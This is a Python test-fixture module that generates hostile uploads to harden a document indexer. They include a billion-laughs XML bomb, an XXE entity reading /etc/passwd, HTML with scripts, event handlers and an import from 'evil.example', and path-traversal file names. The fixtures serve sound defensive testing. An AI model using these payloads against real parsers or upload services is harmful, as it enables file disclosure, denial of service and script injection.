"""Hostile, broken and mislabelled uploads, generated in memory (nothing is downloaded or checked in).

Extends the 14 kinds of :mod:`tests.core.bad_files` with the kinds an IT team meets in the wild. Each
case says what must happen: ``rejected`` (with a fragment the reason must contain) or ``indexed`` (the file
really is a document and is indexed safely; ``forbidden`` strings must not reach any chunk or metadata).
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Literal

from tests.core.bad_files import bad_files, real_docx, real_pdf

Expect = Literal["rejected", "indexed"]


@dataclass(frozen=True)
class BadUpload:
    kind: str
    file_name: str
    data: bytes
    expect: Expect
    #: For rejections: a fragment of the reason. For indexed files: a phrase the chunks must contain.
    fragment: str
    #: Strings that must appear in no chunk text and no metadata value (indexed files only).
    forbidden: tuple[str, ...] = field(default=())
    #: A known core bug this case shows (the test is a strict xfail with this reason until it is fixed).
    bug: str | None = None
    #: For indexed files: the type Needle must have read it as (decided from the bytes, not the name).
    file_type: str | None = None


# ------------------------------------------------------------------------------------------------------
# a minimal PDF writer: fast enough for 10,000 pages, and exact about what each file contains
# ------------------------------------------------------------------------------------------------------
def minimal_pdf(objects: list[bytes]) -> bytes:
    """A PDF from its numbered objects (object 1 must be the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _blank_pages_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + index) for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * pages
    return minimal_pdf(objects)


@lru_cache(maxsize=1)
def ten_thousand_page_pdf() -> bytes:
    return _blank_pages_pdf(10_000)


def image_only_pdf() -> bytes:
    """One page that draws a small grey image and has no text at all (a scan without OCR)."""
    pixels = bytes(range(0, 256, 4)) * 64  # 64 x 64 greyscale
    content = b"q 400 0 0 400 100 200 cm /Im1 Do Q"
    return minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Length %d >>\nstream\n" % len(pixels) + pixels + b"\nendstream",
        ]
    )


def zero_page_pdf() -> bytes:
    return minimal_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


# ------------------------------------------------------------------------------------------------------
# Word documents
# ------------------------------------------------------------------------------------------------------
def empty_body_docx() -> bytes:
    """A valid DOCX (python-docx's own template) with no paragraph, table or text in its body."""
    import docx

    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def _docx_with_document_xml(document_xml: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(real_docx())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            data = document_xml if item.filename == "word/document.xml" else source.read(item)
            target.writestr(item, data)
    return out.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def billion_laughs_docx() -> bytes:
    """A DOCX whose document.xml declares nested entities (an XML bomb: 10^9 'lol' if expanded)."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    )
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE w:document [{entities}]>\n"
        f'<w:document xmlns:w="{W_NS}"><w:body>'
        f"<w:p><w:r><w:t>Laptops are replaced every three years by the IT team. &lol9;</w:t></w:r></w:p>"
        f"</w:body></w:document>"
    )
    return _docx_with_document_xml(xml.encode("utf-8"))


# ------------------------------------------------------------------------------------------------------
# HTML, Markdown and text
# ------------------------------------------------------------------------------------------------------
HOSTILE_HTML_MARKERS = (
    "SCRIPT-MARKER",
    "STYLE-MARKER",
    "ONLOAD-MARKER",
    "ONCLICK-MARKER",
    "ONERROR-MARKER",
    "IFRAME-MARKER",
    "HREF-MARKER",
    "SVG-MARKER",
    "alert(",
    "javascript:",
    "<script",
)

_EXPENSE_PARAGRAPHS = "".join(
    f"<p>{text}</p>"
    for text in (
        "Meals are reimbursed up to 60 EUR per day when you travel for work.",
        "Hotel costs are covered up to 150 EUR per night in most cities, and 220 EUR in capitals.",
        "Submit receipts in the expense tool within 30 days of returning from the trip.",
        "Taxis are reimbursed when public transport is not available or after 22:00.",
    )
)


def hostile_html() -> bytes:
    html = f"""<!doctype html>
<html><head><title>Expense rules</title>
<script>alert('SCRIPT-MARKER head');</script>
<script type="module">import('//evil.example/x.js') /* SCRIPT-MARKER module */</script>
<style>.x {{ content: 'STYLE-MARKER'; }}</style>
<meta http-equiv="refresh" content="0; url=javascript:alert('HREF-MARKER meta')">
</head>
<body onload="steal('ONLOAD-MARKER')">
<h1>Expense rules</h1>
<div onclick="evil('ONCLICK-MARKER')">{_EXPENSE_PARAGRAPHS}</div>
<iframe src="javascript:alert('IFRAME-MARKER src')"
  srcdoc="&lt;script&gt;alert('IFRAME-MARKER doc')&lt;/script&gt;"></iframe>
<a href="javascript:alert('HREF-MARKER a')">Expense tool</a>
<img src="x" onerror="alert('ONERROR-MARKER')" alt="">
<svg onload="alert('SVG-MARKER onload')"><script>alert('SVG-MARKER script')</script></svg>
<script>document.write('SCRIPT-MARKER body')</script>
</body></html>"""
    return html.encode("utf-8")


def deeply_nested_html(depth: int = 5000) -> bytes:
    body = "<div>" * depth + "<p>Parking permits are issued by the facilities team every January.</p>"
    return f"<!doctype html><html><body>{body}{'</div>' * depth}</body></html>".encode()


def xxe_html() -> bytes:
    """An external-entity declaration that would read a local file if any parser resolved it."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<html><body><h1>Badge policy</h1><p>Badges must be worn visibly inside the office at all times. "
        b"Lost badges are reported to security the same day. &xxe;</p></body></html>"
    )


def mixed_encodings_text() -> bytes:
    return (
        "Travel policy (UTF-8): trains in first class from 4 hours, café vouchers.\n".encode()
        + "Old paragraph in cp1252: per diem is 30€ in Zürich.\n".encode("cp1252")
        + "新的段落：出差补贴每天三十欧元。\n".encode()
    )


def nul_bytes_markdown() -> bytes:
    return b"# Onboarding\n\nNew hires get a laptop on day one.\x00\x00\x00 The rest of the file.\n"


def front_matter_only_markdown() -> bytes:
    return b"---\ntitle: Empty page\nauthor: someone\ntags: [hr, policy]\n---\n"


def utf16_without_bom() -> bytes:
    return "Working hours are flexible between 7:00 and 19:00.".encode("utf-16-le")


def huge_single_line(size: int = 5 * 512 * 1024) -> bytes:
    """Megabytes on one line with no whitespace or punctuation (a minified blob saved as .txt): 2.5 MB,
    under the default NEEDLE_MAX_FILE_CHARS of 3,000,000 (a longer line is refused, see
    tests/core/test_hostile_inputs.py)."""
    unit = b"0123456789abcdefghijklmnopqrstuvwxyz"
    return (unit * (size // len(unit) + 1))[:size]


# ------------------------------------------------------------------------------------------------------
# the corpus
# ------------------------------------------------------------------------------------------------------
#: No chunk may be longer than this many characters (200 words of long German compounds is ~3,000).
MAX_CHUNK_CHARS = 20_000

TRAVERSAL_NAME = "../../../../etc/cron.d/\x00evil\r\n\x1b[31mpolicy\x7f.md"
WINDOWS_TRAVERSAL_NAME = "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts.txt"


def corpus(max_bytes: int) -> list[BadUpload]:
    """Every kind: the 14 of ``tests/core/bad_files.py`` followed by the hardening ones."""
    cases = [
        BadUpload(kind, file_name, data, "rejected", reason)
        for kind, (file_name, data, reason) in bad_files(max_bytes).items()
    ]
    pdf, docx = real_pdf(), real_docx()
    cases += [
        BadUpload("pdf_10000_pages", "archive.pdf", ten_thousand_page_pdf(), "rejected", "over the limit"),
        BadUpload("pdf_zero_pages", "nothing.pdf", zero_page_pdf(), "rejected", "no pages"),
        BadUpload("pdf_images_only", "scan.pdf", image_only_pdf(), "rejected", "no text could be extracted"),
        BadUpload("docx_empty_body", "blank.docx", empty_body_docx(), "rejected", "no text"),
        BadUpload("docx_billion_laughs", "laughs.docx", billion_laughs_docx(), "rejected", "Word document"),
        # UTF-8 with a stray Windows-1252 paragraph: read, the two stray bytes replaced, with a warning.
        BadUpload(
            "mixed_encodings", "travel.txt", mixed_encodings_text(), "indexed", "新的段落", file_type="text"
        ),
        BadUpload("nul_bytes_md", "onboarding.md", nul_bytes_markdown(), "rejected", "binary"),
        BadUpload("utf16_without_bom", "hours.txt", utf16_without_bom(), "rejected", "binary"),
        BadUpload(
            "markdown_front_matter_only",
            "empty-page.md",
            front_matter_only_markdown(),
            "rejected",
            "no text",
        ),
        BadUpload("unsupported_json", "config.json", b'{"vacation_days": 25}', "rejected", "not supported"),
        BadUpload(
            "huge_single_line",
            "minified.txt",
            huge_single_line(),
            "indexed",
            "0123456789abcdef",
        ),
        BadUpload(
            "html_scripts_iframes_handlers",
            "expenses.html",
            hostile_html(),
            "indexed",
            "Meals are reimbursed up to 60 EUR",
            HOSTILE_HTML_MARKERS,
        ),
        BadUpload(
            "html_xxe_entity",
            "badges.html",
            xxe_html(),
            "indexed",
            "Badges must be worn",
            ("root:", "/bin/bash", "/usr/sbin/nologin"),
        ),
        # Deeper than lxml parses (256 levels): read with html.parser instead of refused as having no text.
        BadUpload(
            "html_deeply_nested",
            "parking.html",
            deeply_nested_html(),
            "indexed",
            "Parking permits are issued by the facilities team",
            file_type="html",
        ),
        BadUpload(
            "docx_named_pdf", "remote-work.pdf", docx, "indexed", "Remote and Hybrid Work", file_type="docx"
        ),
        BadUpload("pdf_named_md", "conduct.md", pdf, "indexed", "Code of Conduct", file_type="pdf"),
        BadUpload(
            "path_traversal_control_chars",
            TRAVERSAL_NAME,
            b"# Cron policy\n\nScheduled jobs are reviewed by the platform team every quarter.\n",
            "indexed",
            "Scheduled jobs are reviewed",
            ("..", "/", "\x00", "\r", "\x1b", "\x7f"),
        ),
        BadUpload(
            "path_traversal_windows",
            WINDOWS_TRAVERSAL_NAME,
            b"Hosts file policy. Only the IT team edits hosts files on company laptops.\n",
            "indexed",
            "Only the IT team edits hosts files",
            ("..", "\\", "/"),
        ),
    ]
    return cases
